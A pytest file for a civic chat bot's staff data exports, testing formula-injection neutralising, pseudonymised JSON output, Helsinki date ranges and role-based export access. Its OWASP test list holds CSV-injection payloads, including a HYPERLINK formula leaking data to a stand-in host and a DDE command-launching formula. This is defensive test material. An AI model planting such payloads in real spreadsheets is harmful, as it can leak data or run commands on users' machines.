"""Exports: Excel-ready CSV, XLSX and JSON; formula injection neutralised; no platform ids."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime

import openpyxl
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from bot.reports.cells import neutralised
from bot.reports.exports import ExportFormat, ExportKind, ExportRequest, stream_export
from bot.services import Services
from locales import Translators
from storage.domain_tables import idea_t
from storage.staff_tables import Role, audit_t
from tests.staff.conftest import csrf_of
from tests.support.data import leave_idea
from tests.support.talk import Talk

TRANSLATORS = Translators()

# OWASP's CSV injection examples, and the other starts the rule names.
OWASP = [
    "=1+2",
    '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
]


def export(services: Services, request: ExportRequest, counted: list[int] | None = None) -> bytes:
    return b"".join(
        stream_export(
            database=services.database,
            request=request,
            translator=TRANSLATORS["fi"],
            delimiter=";",
            on_done=(counted if counted is not None else []).append,
        )
    )


def store_texts(services: Services, texts: list[str]) -> None:
    """Ideas with these texts, as if left through the chat (then the text set exactly)."""
    for _ in texts:  # one person each: three ideas a day is the limit
        leave_idea(Talk(services.engine), "Tilapäinen teksti, joka vaihdetaan.")
    with services.database.begin() as connection:
        ids = list(connection.execute(sa.select(idea_t.c.id).order_by(idea_t.c.id)).scalars())
        for idea_id, text in zip(ids, texts, strict=True):
            connection.execute(sa.update(idea_t).where(idea_t.c.id == idea_id).values(text=text))


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "a BOM, so Excel reads UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def read_xlsx(data: bytes) -> list[list[object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    # Control characters are stored as _x000D_ (OOXML's escape, which Excel reads back).
    return [
        [unescape(v) if isinstance(v, str) else v for v in row]
        for row in sheet.iter_rows(values_only=True)
    ]


def test_owasp_examples_are_neutralised_in_csv_and_xlsx(any_services: Services) -> None:
    store_texts(any_services, OWASP)
    counted: list[int] = []
    for machine in (False, True):
        request = ExportRequest(ExportKind.IDEAS, ExportFormat.CSV, machine=machine)
        csv_rows = read_csv(export(any_services, request, counted))
        column = csv_rows[0].index("idea" if machine else "Idea")
        assert [row[column] for row in csv_rows[1:]] == ["'" + text for text in OWASP]
    assert counted == [len(OWASP)] * 2  # the audit row's count (COPY's on PostgreSQL)
    # XLSX cells are strings, which no spreadsheet evaluates: shown exactly as typed.
    xlsx_rows = read_xlsx(export(any_services, ExportRequest(ExportKind.IDEAS, ExportFormat.XLSX)))
    column = xlsx_rows[0].index("Idea")
    assert [row[column] for row in xlsx_rows[1:]] == OWASP


def test_the_xlsx_holds_no_formula_at_all(services: Services) -> None:
    store_texts(services, OWASP)
    data = export(services, ExportRequest(ExportKind.IDEAS, ExportFormat.XLSX))
    workbook = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: formulas would show
    sheet = workbook.active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


@hypothesis_settings(max_examples=30, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=60), min_size=1, max_size=5))
def test_any_text_round_trips_through_csv_and_xlsx(texts: list[str]) -> None:
    """Random strings come back as written (with the ' prefix where the rule asks for it)."""
    from bot.reports.export_writers import Counted, Sheet, write_csv, write_xlsx

    rows = [(text,) for text in texts]
    csv_back = read_csv(b"".join(write_csv(("Idea",), ("idea",), Counted(iter([rows])), ";")))
    expected = [neutralised(t) for t in texts]
    # csv reads a lone CR or LF inside a quoted field back as written; NUL is not text.
    assert [row[0] for row in csv_back[1:]] == expected
    printable = [t for t in texts if all(c >= " " or c in "\t\n\r" for c in t)]
    if printable:
        sheet = Sheet("Ideat", ("Idea",), (60,), (None,), "Tietoja", lambda rows: [])
        xlsx_back = read_xlsx(
            b"".join(write_xlsx(sheet, Counted(iter([[(t,) for t in printable]]))))
        )
        assert [row[0] for row in xlsx_back[1:]] == printable


def test_exports_carry_the_pseudonym_never_the_chat_user_id(services: Services) -> None:
    talk = Talk(services.engine, user_id="telegram-like-424242")
    leave_idea(talk, "Kirjastoon pelikerho nuorille keskiviikkoisin.")
    data = export(services, ExportRequest(ExportKind.IDEAS, ExportFormat.JSON))
    assert b"424242" not in data
    (record,) = json.loads(data)
    assert len(record["pseudonym"]) >= 16 and record["idea"].startswith("Kirjastoon")


def test_a_date_range_is_in_helsinki_days(any_services: Services) -> None:
    store_texts(any_services, ["eka idea on tässä", "toka idea on tässä"])
    with any_services.database.begin() as connection:
        # 23.30 UTC on 22 Nov is 01.30 on 23 Nov in Helsinki.
        connection.execute(
            sa.update(idea_t)
            .where(idea_t.c.id == 1)
            .values(created_at=datetime(2026, 11, 22, 23, 30, tzinfo=UTC))
        )
        connection.execute(
            sa.update(idea_t)
            .where(idea_t.c.id == 2)
            .values(created_at=datetime(2026, 11, 22, 21, 30, tzinfo=UTC))
        )
    day = date(2026, 11, 23)
    request = ExportRequest(ExportKind.IDEAS, ExportFormat.CSV, since=day, until=day)
    rows = read_csv(export(any_services, request))
    assert [row[rows[0].index("Idea")] for row in rows[1:]] == ["eka idea on tässä"]
    assert rows[1][rows[0].index("Saapunut")] == "23.11.2026 1.30"  # Helsinki, as Finns write it
    machine = read_csv(export(any_services, replace(request, machine=True)))
    assert machine[1][machine[0].index("received_at")] == "2026-11-22T23:30:00Z"  # ISO, UTC


@pytest.mark.parametrize(
    ("role", "kind", "allowed"),
    [
        (Role.MODERATOR, "ideas", True),
        (Role.MODERATOR, "contacts", False),
        (Role.OUTREACH, "contacts", True),
        (Role.OUTREACH, "ideas", False),
        (Role.VIEWER, "results", True),
        (Role.VIEWER, "ideas", False),
        (Role.VIEWER, "votes", False),
        (Role.ADMIN, "contacts", False),
    ],
)
def test_the_web_export_follows_the_role(
    signed_in: Callable[[Role], TestClient],
    services: Services,
    role: Role,
    kind: str,
    allowed: bool,
) -> None:
    leave_idea(Talk(services.engine), "Kirjastoon pelikerho nuorille keskiviikkoisin.")
    client = signed_in(role)
    response = client.post(
        "/staff/exports", data={"csrf": csrf_of(client), "kind": kind, "format": "csv"}
    )
    assert response.status_code == (200 if allowed else 403)
    if allowed:
        assert (
            response.headers["content-disposition"]
            == f'attachment; filename="osallistu-{kind}.csv"'
        )
        with services.database.connect() as connection:
            audit = connection.execute(
                sa.select(audit_t.c.action, audit_t.c.target, audit_t.c.rows).where(
                    audit_t.c.action == "export"
                )
            ).one()
        assert audit.target == f"osallistu-{kind}.csv" and audit.rows is not None


def test_a_bad_export_request_is_a_kind_422(signed_in: Callable[[Role], TestClient]) -> None:
    client = signed_in(Role.MODERATOR)
    response = client.post(
        "/staff/exports", data={"csrf": csrf_of(client), "kind": "everything", "format": "csv"}
    )
    assert response.status_code == 422


def test_a_long_export_does_not_hold_up_residents_on_sqlite(services: Services) -> None:
    """The export reads beside the writer: a resident's message is handled mid-export."""
    store_texts(services, [f"idea numero {n} pitkää vientiä varten" for n in range(3)])
    chunks = stream_export(
        database=services.reader,
        request=ExportRequest(ExportKind.IDEAS, ExportFormat.CSV),
        translator=TRANSLATORS["fi"],
        delimiter=";",
    )
    first = next(chunks)  # the export's SELECT is open now
    talk = Talk(services.engine)
    talk.start()  # a write: with the export holding the write lock this would fail after 10 s
    assert talk.texts
    rest = b"".join(chunks)
    assert first.startswith(b"\xef\xbb\xbf") and (first + rest).count(b"pitk") == 3
